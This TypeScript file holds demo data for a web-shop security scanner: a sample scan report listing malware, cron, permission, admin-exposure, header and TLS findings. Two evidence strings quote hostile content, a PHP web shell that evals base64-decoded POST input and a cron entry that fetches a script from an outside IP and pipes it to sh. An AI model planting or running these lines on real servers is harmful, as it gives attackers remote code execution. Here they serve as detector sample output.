import type { ShopSecurityResult } from './index.ts';
import { listVersion } from './signatures.ts';

/** The demo server's finished scan (demo data, spec §10: shop security reports are part of the demo). */
export const demoSecurityResult: ShopSecurityResult = {
  roots: ['/var/www/shop'],
  filesScanned: 18342,
  truncated: false,
  listVersion,
  price: { free: false, cents: 1900 },
  findings: [
    {
      kind: 'malware',
      severity: 'critical',
      rule: 'eval_obfuscated',
      file: '/var/www/shop/pub/media/catalog/product/cache/x.php',
      line: 1,
      evidence: '<?php @eval(base64_decode($_POST["p"]));',
    },
    { kind: 'php_in_uploads', severity: 'high', rule: 'php_in_uploads', file: '/var/www/shop/pub/media/catalog/product/cache/x.php', line: null, evidence: 'shop/pub/media/catalog/product/cache/x.php' },
    { kind: 'malicious_cron', severity: 'critical', rule: 'cron_download_exec', file: '/etc/cron.d/portal', line: 4, evidence: '*/10 * * * * www-data curl -fsSL http://203.0.113.9/u.sh | sh' },
    { kind: 'world_writable', severity: 'medium', rule: 'world_writable', file: '/var/www/shop/app/etc/env.php.bak', line: null, evidence: 'mode 666' },
    {
      kind: 'admin_exposed',
      severity: 'medium',
      rule: 'admin_magento',
      file: 'https://www.mueller-schmidt-shop.example/admin',
      line: null,
      evidence: 'HTTP 200: Magento Admin … <form id="login-form"> … login[username]',
      site: 'www.mueller-schmidt-shop.example',
      server: 'nginx',
      directive: 'location ^~ /admin { allow <your IP>; deny all; try_files $uri $uri/ /index.php?$query_string; }',
    },
    {
      kind: 'missing_header',
      severity: 'low',
      rule: 'header_referrer_policy',
      file: 'https://www.mueller-schmidt-shop.example/',
      line: null,
      evidence: 'Referrer-Policy',
      site: 'www.mueller-schmidt-shop.example',
      server: 'nginx',
      directive: 'add_header Referrer-Policy "strict-origin-when-cross-origin" always;',
    },
  ],
  sites: ['https://www.mueller-schmidt-shop.example'],
  crontabs: ['/etc/cron.d/portal'],
  tls: [
    {
      site: 'www.mueller-schmidt-shop.example',
      protocol: 'TLSv1.3',
      cipher: 'TLS_AES_256_GCM_SHA384',
      legacy: { TLSv1: 'refused', 'TLSv1.1': 'refused' },
      certificate: { subject: 'www.mueller-schmidt-shop.example', issuer: "Let's Encrypt R11", validTo: '2027-02-14T23:59:59.000Z', names: ['www.mueller-schmidt-shop.example', 'mueller-schmidt-shop.example'], matchesHost: true, selfSigned: false },
    },
  ],
};
